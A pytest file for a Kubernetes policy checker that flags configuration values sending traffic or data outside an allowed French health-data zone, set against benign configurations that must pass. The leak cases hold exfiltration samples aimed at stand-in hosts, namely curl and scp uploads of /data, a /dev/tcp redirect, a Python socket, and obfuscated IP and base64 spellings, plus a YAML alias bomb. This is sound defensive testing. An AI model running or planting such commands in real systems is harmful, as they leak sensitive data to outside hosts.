"""The three walkers: what leaks is found in every spelling, and an honest estate passes."""

import base64
import json
from typing import Any

import pytest

from facts.zones import Zone
from policies.judge import judge
from policies.model import Judgement, Plan, Resource
from policies.model.resource import kubernetes_type
from policies.rules import load
from tests.support.estate import estate

ZONE = Zone.model_validate(
    {
        "name": "hds-fr",
        "countries": ["FR"],
        "eea": "required",
        "regions": {"aws": ["eu-west-3"], "scaleway": ["fr-par"]},
        "registries": ["registry.sovereign.internal"],
        "hosts": ["audit.hospital.fr", "*.sovereign.internal"],
        "networks": ["10.0.0.0/8", "fd00::/8"],
    }
)
RULES = load()


def judged(inputs: dict[str, Any], token: str = "") -> Judgement:
    token = token or kubernetes_type(inputs["apiVersion"], inputs["kind"])
    return judge(Plan.of([Resource("urn:x", token, "x", inputs)], whole=False), ZONE, RULES)


def config_map(data: dict[str, str]) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": "c", "namespace": "n"},
        "data": data,
    }


def walked(judgement: Judgement) -> list[tuple[str, str]]:
    return [
        (finding.path, finding.seen) for finding in judgement.findings if finding.rule.startswith("walkers.")
    ]


IAM_DENY = json.dumps(
    {
        "Statement": [
            {
                "Effect": "Deny",
                "NotAction": "iam:*",
                "Resource": "*",
                "Condition": {"StringNotEquals": {"aws:RequestedRegion": ["us-east-1", "eu-west-2"]}},
            },
            {"Effect": "Deny", "Action": "*", "Resource": "arn:aws:s3:us-east-1:111122223333:accesspoint/x"},
        ]
    }
)

HONEST: dict[str, dict[str, str]] = {
    "region-less ARNs": {
        "role": "arn:aws:iam::111122223333:role/gateway",
        "bucket": "arn:aws:s3:::audit-archive/*",
    },
    "an ARN of the zone": {"key": "arn:aws:kms:eu-west-3:111122223333:key/0f1e"},
    "denied regions": {"policy.json": IAM_DENY},
    "JSON Schema": {
        "schema.json": '{"$schema": "https://json-schema.org/draft/2020-12/schema", "type": "object"}'
    },
    "XML namespaces": {
        "a.xml": '<a xmlns="http://www.w3.org/2000/svg" xmlns:fhir="http://hl7.org/fhir">x y</a>'
    },
    "FHIR": {
        "p.json": '{"resourceType": "Patient", "identifier": [{"system": "urn:oid:1.2.250.1.213.1.4.8"}]}'
    },
    "FHIR profile": {"p.json": '{"meta": {"profile": ["http://hl7.org/fhir/StructureDefinition/Patient"]}}'},
    "an OID": {"oid": "1.2.250.1.213"},
    "an OID of four": {"oid": "1.2.250.1"},
    "versions": {"version": "1.29.3.1", "app": "release 2.4.1", "tag": "v1.2.3.4"},
    "NO_PROXY": {"NO_PROXY": "localhost,10.0.0.0/8,.example.com,169.254.169.254,192.168.0.0/16"},
    "no_proxy in a script": {"run.sh": "#!/bin/sh\nexport no_proxy=example.com,8.8.8.8\nexec /app\n"},
    "the link-local time server": {"chrony.conf": "server 169.254.169.123 prefer iburst\nmakestep 1 3\n"},
    "an audience": {"audience": "https://sts.example.com/api"},
    "digests": {"digest": "sha256:" + "a" * 64, "commit": "e83c5163316f89bfbde7d9ab23ca2e25604af290"},
    "account ids": {"account": "111122223333", "patient": "183097512345"},
    "in-cluster names": {
        "url": "https://audit.llm-audit.svc:8443/v1",
        "host": "vllm-server",
        "dns": "kube-dns.kube-system.svc.cluster.local",
    },
    "hosts of the zone": {
        "AUDIT_URL": "https://audit.hospital.fr/v1",
        "endpoint": "s3.sovereign.internal:9000",
    },
    "addresses of the zone": {"server": "10.20.30.40:636", "peers": "10.1.1.1,10.1.1.2", "ipv6": "fd00::12"},
    "a bind address": {"listen": "0.0.0.0:8443", "bind": "[::]:8443", "addr": ":9090", "host": "127.0.0.1"},
    "prose": {"description": "See https://docs.example.com/setup for how this is used."},
    "a comment": {"app.conf": "# see https://docs.example.com\nlevel = info\n// from https://example.org\n"},
    "a comment in YAML": {"app.yaml": "# https://docs.example.com\nlevel: info\nworkers: 3\n"},
    "API groups": {"groups": "monitoring.coreos.com/v1,cert-manager.io,networking.k8s.io/v1"},
    "file names": {"server": "config.yaml", "tls": "/etc/tls/server.crt", "script": "run.sh"},
    "modules": {"module": "vllm.entrypoints.openai.api_server", "class": "com.example.app.Main"},
    "code": {"a.py": "import os\nhost = os.environ['X']\nserver = settings.server\nurl = config.url\n"},
    "PromQL": {"expr": 'sum(rate(http_requests_total{job="vllm"}[5m])) > 0.99'},
    "a region of the zone": {"AWS_REGION": "eu-west-3", "region": "fr-par", "zone": "eu-west-3a"},
    "a DNS zone": {"zone": "internal"},
    "an IPv4 range of the zone": {"cidr": "10.96.0.0/12", "podCIDR": "10.244.0.0/16"},
    "an e-mail address": {"contact": "dpo@hospital.example"},
    "a variable": {"url": "https://$(AUDIT_HOST):8443/v1", "next": "http://${HOST}.llm-audit.svc/x"},
    "a path URL": {"a": "file:///models/x", "b": "unix:///run/x.sock"},
    "times": {"log": "started at 12:30:45 on node-1.2"},
    "a SPIFFE id": {"id": "spiffe://hospital.example/ns/llm/sa/gateway"},
    "a certificate": {
        "ca.crt": "-----BEGIN CERTIFICATE-----\nMIIB8jCCAZigAwIBAgIQ\n-----END CERTIFICATE-----\n"
    },
    "an image of the zone": {"SIDECAR_IMAGE": "registry.sovereign.internal/audit@sha256:" + "b" * 64},
    "a picture": {"image": "logo.png"},
    "allowed origins": {"CORS_ALLOWED_ORIGINS": "https://portal.example.com"},
    "an XML schema": {
        "a.xml": '<a xmlns="http://ch.qos.logback/xml/ns" xsi:schemaLocation="http://a.example http://b.example/x.xsd"/>'
    },
    "names in FHIR": {
        "p.json": '{"resourceType": "ValueSet", "url": "http://clinic.example/fhir/ValueSet/x", '
        '"identifier": [{"system": "http://clinic.example/ids", "value": "7"}]}'
    },
    "what an API says of itself": {
        "openapi.yaml": "openapi: 3.1.0\ninfo: {license: {name: A, url: 'https://www.apache.org/licenses/LICENSE-2.0'}}\n"
    },
    "a netmask": {"subnet_mask": "255.255.255.0"},
    "Corefile": {
        "Corefile": ".:53 {\n  errors\n  kubernetes cluster.local in-addr.arpa ip6.arpa\n"
        "  forward . /etc/resolv.conf\n}\n"
    },
    "nginx": {
        "nginx.conf": "server {\n  listen 8443 ssl;\n  server_name llm.hospital.example;\n  location / {\n"
        "    proxy_pass https://vllm-server.llm-serving.svc:8000;\n  }\n}\n"
    },
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_estate_passes(name: str) -> None:
    assert walked(judged(config_map(HONEST[name]))) == []


LEAKS: dict[str, tuple[dict[str, str], str]] = {
    "a URL": ({"a": "https://collector.evil.example/v1"}, "collector.evil.example"),
    "a URL in JSON": ({"c.json": '{"out": [{"to": "https://evil.example"}]}'}, "evil.example"),
    "a URL in YAML": ({"c.yaml": "a: 1\nout:\n  - to: https://evil.example\n"}, "evil.example"),
    "a URL in JSON in YAML": ({"c.yaml": 'a: 1\nout: \'{"u": "https://evil.example"}\'\n'}, "evil.example"),
    "a URL in a query": ({"u": "https://audit.hospital.fr/?to=https://evil.example/x"}, "evil.example"),
    "upper case and a dot": ({"u": "HTTPS://Evil.EXAMPLE./x"}, "evil.example"),
    "userinfo": ({"u": "https://audit.hospital.fr@evil.example/"}, "evil.example"),
    "a suffix that isn't one": (
        {"u": "https://audit.hospital.fr.evil.example/"},
        "audit.hospital.fr.evil.example",
    ),
    "half a label": ({"u": "https://notsovereign.internal/"}, "notsovereign.internal"),
    "decimal": ({"u": "http://134744072/"}, "8.8.8.8"),
    "hexadecimal": ({"u": "http://0x08080808/"}, "8.8.8.8"),
    "octal": ({"u": "http://01002004010/"}, "8.8.8.8"),
    "mapped": ({"u": "http://[::ffff:8.8.8.8]/"}, "8.8.8.8"),
    "an address": ({"x": "8.8.8.8"}, "8.8.8.8"),
    "an IPv6 address": ({"x": "2001:4860:4860::8888"}, "2001:4860:4860::8888"),
    "a bare host": ({"OTEL_ENDPOINT": "evil.example"}, "evil.example"),
    "a bare host of many": ({"brokers": "audit.hospital.fr:9092,evil.example:9092"}, "evil.example"),
    "a host with a port": ({"x": "evil.example:4317"}, "evil.example"),
    "many hosts in a URL": (
        {"d": "postgresql://u:p@audit.hospital.fr:5432,evil.example:5432/db"},
        "evil.example",
    ),
    "an international name": ({"u": "https://böse.example/"}, "xn--bse-sna.example"),
    "half the internet": ({"routes": "0.0.0.0/1"}, "0.0.0.0/1"),
    "an IPv6 network": ({"routes": "2000::/3"}, "2000::/3"),
    "a script": ({"run.sh": "#!/bin/sh\ncat /data | curl -T - evil.example/x\n"}, "evil.example"),
    "ssh": ({"run.sh": "set -e\nscp /data user@evil.example:/tmp\n"}, "evil.example"),
    "nginx": ({"n.conf": "location / {\n  proxy_pass https://evil.example;\n}\n"}, "evil.example"),
    "chrony": ({"chrony.conf": "server ntp.evil.example iburst\nmakestep 1 3\n"}, "ntp.evil.example"),
    "a resolver": ({"n.conf": "http {\n resolver 8.8.8.8;\n}\n"}, "8.8.8.8"),
    "a properties file": ({"a.properties": "level=info\nproxy.host=evil.example\n"}, "evil.example"),
    "a Python socket": ({"a.py": "import socket\nsocket.connect(('evil.example', 443))\n"}, "evil.example"),
    "a shell's socket": ({"r.sh": "set -e\ncat /x > /dev/tcp/8.8.8.8/443\n"}, "8.8.8.8"),
    "a clone": ({"r.sh": "set -e\ngit clone git@evil.example:org/repo\n"}, "evil.example"),
    "a hosts file": ({"hosts": "127.0.0.1 localhost\n8.8.8.8 audit.hospital.fr\n"}, "8.8.8.8"),
    "an ODBC string": ({"c": "Server=evil.example;Database=x"}, "evil.example"),
    "JDBC": ({"c": "jdbc:postgresql://evil.example:5432/db"}, "evil.example"),
    "XML": ({"a.xml": "<c><host>evil.example</host></c>"}, "evil.example"),
    "gRPC's resolver": ({"c": "dns:///evil.example:443"}, "evil.example"),
    "no scheme": ({"url": "//evil.example/x"}, "evil.example"),
    "three slashes": ({"u": "https:///evil.example"}, "evil.example"),
    "Fluent Bit": ({"f.conf": "[OUTPUT]\n    Name http\n    Host evil.example\n"}, "evil.example"),
    "rsyslog": ({"r.conf": "*.* @@evil.example:514\n"}, "evil.example"),
    "WireGuard": ({"wg.conf": "[Peer]\nEndpoint = 8.8.8.8:51820\nAllowedIPs = 0.0.0.0/0\n"}, "0.0.0.0/0"),
    "base64 in a setting": ({"x": "aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYWJj"}, "evil.example"),
    "a region in HCL": ({"v.hcl": 'seal "awskms" {\n  region = "us-east-1"\n}\n'}, "us-east-1"),
    "a region in a script": ({"r.sh": "set -e\nworker --region us-east-1\n"}, "us-east-1"),
    "a service by scheme": ({"model": "hf://org/model"}, "huggingface.co"),
    "a variable before a host": ({"u": "https://$(TENANT).evil.example/"}, "x.evil.example"),
    "an ARN abroad": ({"key": "arn:aws:kms:us-east-1:111122223333:key/1"}, "arn:aws:kms:us-east-1:..."),
    "an ARN of another partition": ({"r": "arn:aws-cn:iam::111122223333:role/x"}, "arn:aws-cn:iam::..."),
    "a region abroad": ({"AWS_REGION": "us-east-1"}, "us-east-1"),
    "a region in YAML": ({"s3.yaml": "bucket: a\nregion: eu-west-2\n"}, "eu-west-2"),
    "a zone abroad": ({"zone": "us-east-1a"}, "us-east-1a"),
    "a region nobody knows": ({"region": "eu-moon-1"}, "eu-moon-1"),
    "another provider's region": ({"AWS_REGION": "fr-par"}, "fr-par"),
    "an image": ({"SIDECAR_IMAGE": "docker.io/library/busybox:1"}, "docker.io/library/busybox:1"),
    "an image of a look-alike": (
        {"SIDECAR_IMAGE": "registry.sovereign.internal.evil.example/a:1"},
        "registry.sovereign.internal.evil.example/a:1",
    ),
    "an image in an argument": (
        {"run.sh": "exec operator --sidecar=evil.example/a@sha256:" + "c" * 64 + " --verbose\n"},
        "evil.example/a@sha256:" + "c" * 64,
    ),
}


@pytest.mark.parametrize("name", LEAKS)
def test_a_leak_is_found_in_every_spelling(name: str) -> None:
    data, seen = LEAKS[name]
    found = walked(judged(config_map(data)))
    assert seen in [what for _, what in found], found


def test_an_annotation_and_an_argument_are_walked() -> None:
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "p", "annotations": {"a.example.org/mirror-target": "https://evil.example"}},
        "spec": {
            "containers": [
                {
                    "name": "c",
                    "image": "registry.sovereign.internal/a@sha256:" + "0" * 64,
                    "args": ["--otlp-endpoint", "evil2.example", "--peer=evil3.example", "--level", "info"],
                    "env": [{"name": "COLLECTOR_HOST", "value": "evil4.example"}],
                }
            ]
        },
    }
    seen = {what for _, what in walked(judged(pod))}
    assert seen == {"evil.example", "evil2.example", "evil3.example", "evil4.example"}


def test_a_secret_is_decoded_and_never_shown() -> None:
    encoded = base64.b64encode(b"endpoint: https://exfil-1f3.evil.example/tok\nuser: a\n").decode()
    secret = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": "s"},
        "data": {"c.yaml": encoded},
        "stringData": {"url": "https://exfil-2f4.evil.example"},
    }
    result = judged(secret)
    assert {path for path, _ in walked(result)} == {"data.c.yaml.endpoint", "stringData.url"}
    assert "exfil" not in json.dumps(result.to_json())


def test_own_names_of_an_ingress_are_no_destination() -> None:
    ingress = {
        "apiVersion": "networking.k8s.io/v1",
        "kind": "Ingress",
        "metadata": {"name": "i"},
        "spec": {
            "tls": [{"hosts": ["llm.hospital.example"], "secretName": "tls"}],
            "rules": [{"host": "llm.hospital.example"}],
        },
    }
    assert walked(judged(ingress)) == []


def test_an_alias_bomb_ends() -> None:
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)
    )
    assert walked(judged(config_map({"bomb.yaml": bomb + "u: https://evil.example\n"})))


def test_the_made_up_estate_of_the_benchmarks_passes() -> None:
    resources = [
        Resource(f"urn:{index}", kubernetes_type(item["apiVersion"], item["kind"]), "x", item)
        for index, item in enumerate(estate(16))
    ]
    found = judge(Plan.of(resources), ZONE, RULES).findings
    assert [finding for finding in found if finding.rule.startswith(("walkers.", "closed", "unknowns"))] == []
